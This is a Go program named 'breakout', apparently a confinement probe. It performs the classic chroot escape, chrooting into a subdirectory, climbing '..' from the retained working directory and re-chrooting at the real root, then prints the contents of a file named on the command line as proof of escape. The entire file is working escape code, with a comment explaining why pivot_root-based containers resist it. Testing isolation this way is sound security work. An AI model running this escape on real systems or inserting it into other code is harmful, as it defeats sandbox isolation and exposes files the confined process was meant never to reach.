// Command breakout tries the classic escape from a chroot, then prints what
// it finds at the path given as its argument.
//
// The trick: chroot(2) changes the root but not the working directory. A
// process that chroots into a subdirectory while its working directory stays
// outside it can walk ".." up to the real root, then chroot(".") there. A
// container that pivot_root'ed and unmounted the old root has no real root
// left to walk to.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: breakout FILE")
		os.Exit(2)
	}
	os.Mkdir("/.breakout", 0o700)
	// Removed at the end through the root we started in: once out, "/"
	// is another directory.
	if root, err := os.Open("/"); err == nil {
		defer func() { syscall.Fchdir(int(root.Fd())); syscall.Rmdir(".breakout") }()
	}
	if err := syscall.Chroot("/.breakout"); err != nil {
		fmt.Fprintln(os.Stderr, "breakout: chroot:", err)
		os.Exit(1)
	}
	// Our working directory is still outside the new root: climb.
	for i := 0; i < 64; i++ {
		syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		fmt.Fprintln(os.Stderr, "breakout: chroot .:", err)
		os.Exit(1)
	}
	b, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Println("confined:", err)
		return
	}
	fmt.Printf("escaped: %s", b)
}
